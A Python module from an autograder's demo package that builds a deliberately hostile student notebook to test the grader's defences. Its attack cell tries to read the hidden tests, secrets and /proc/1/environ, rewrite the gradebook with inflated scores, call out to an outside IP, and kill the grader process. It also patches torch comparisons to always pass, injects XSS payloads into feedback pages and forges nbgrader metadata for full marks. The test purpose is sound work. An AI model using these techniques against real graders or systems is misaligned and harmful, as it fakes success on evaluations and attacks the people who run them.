"""A submission that solves nothing and tries everything else; made for any assignment.

Its notebook prints what came of each attempt, so that its feedback page shows how far it got.
"""

from __future__ import annotations

import copy

from autograder.demo.notebooks import Notebook, add_code, as_text, cell_of

__all__ = ["MARKER", "SECRET", "hostile_notebook"]

SECRET = "AUTOGRADER_DEMO_SECRET"
"""A variable of the grader's environment that the notebook tries to read."""

MARKER = "taken-over"
"""Stands in every script that the notebook tries to smuggle into pages for people."""

_SCRIPTS = f"""<script>document.title = "{MARKER}"</script>
<img src="x" onerror="document.title = '{MARKER}'">
<a href="javascript:document.title = '{MARKER}'">my plots</a>
<iframe srcdoc="<script>parent.document.title = '{MARKER}'</script>"></iframe>"""

_ATTACK = f'''\
import os, pathlib, signal, socket, sqlite3
import torch, convlab
from IPython.display import HTML, display

course = pathlib.Path(convlab.__file__).parents[1]  # convlab is read from where the course lies
gradebooks = [place / "gradebook.db" for place in (course / "demo", course, *pathlib.Path.cwd().parents)]

def attempt(what, action):
    try:
        print(f"{{what}}: {{action()!r}}")
    except BaseException as error:
        print(f"{{what}}: {{type(error).__name__}}: {{error}}")

def regrade():
    for path in gradebooks:
        if path.exists():
            with sqlite3.connect(path) as book:
                book.execute("UPDATE grade SET manual_score = 1000, needs_manual_grade = 0")
            return path
    return "no gradebook anywhere"

class Anything:
    """Equal to whatever it is compared with."""
    __eq__ = __ge__ = __le__ = lambda self, other: True
    __hash__ = None
    def __getattr__(self, name): return self
    def __call__(self, *args, **kwargs): return self
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None): return True

attempt("read the hidden tests", lambda: [path.read_text() for path in (course / "tests").rglob("*.py")])
attempt("read the grader's secret", lambda: os.environ.get("{SECRET}", "not there"))
attempt("read the grader's memory", lambda: open("/proc/1/environ", "rb").read())
attempt("rewrite the gradebook", regrade)
attempt("write a gradebook", lambda: (course / "gradebook.db").write_text("mine"))
attempt("call home", lambda: socket.create_connection(("192.0.2.1", 80), timeout=2))
for name in ("allclose", "equal", "isclose"):
    setattr(torch, name, lambda *args, **kwargs: True)
torch.testing.assert_close = lambda *args, **kwargs: None
print("""{_SCRIPTS}""")
display(HTML("""{_SCRIPTS}"""))
'''

_KILL = """\
for victim in (os.getppid(), -1):
    attempt("end the grader", lambda: os.kill(victim, signal.SIGKILL))
"""


def hostile_notebook(release: Notebook, exercises: list[str]) -> str:
    """The notebook, as text.

    Args:
        release: The untouched one.
        exercises: Names of its exercises.
    """
    notebook = add_code(add_code(release, _KILL), _ATTACK)
    for name in exercises:
        cell_of(notebook, name)["source"] = f"def {name}(*args, **kwargs):\n    return Anything()\n"
    for cell in notebook["cells"]:
        _forge(cell)
    text = {"cell_type": "markdown", "id": "scripts", "metadata": {}, "source": _SCRIPTS}
    notebook["cells"].insert(0, copy.deepcopy(text))
    return as_text(notebook)


def _forge(cell: dict[str, object]) -> None:
    """Full marks, as far as the file itself can say so."""
    metadata = cell["metadata"]
    settings = metadata.get("nbgrader") if isinstance(metadata, dict) else None
    if not isinstance(settings, dict) or not settings.get("grade"):
        return
    settings |= {"points": 1000, "locked": False, "solution": cell["cell_type"] == "markdown"}
    if cell["cell_type"] == "code":
        result = {"output_type": "execute_result", "execution_count": 1, "metadata": {}}
        cell |= {"source": "1000.0", "outputs": [{**result, "data": {"text/plain": "1000.0"}}]}
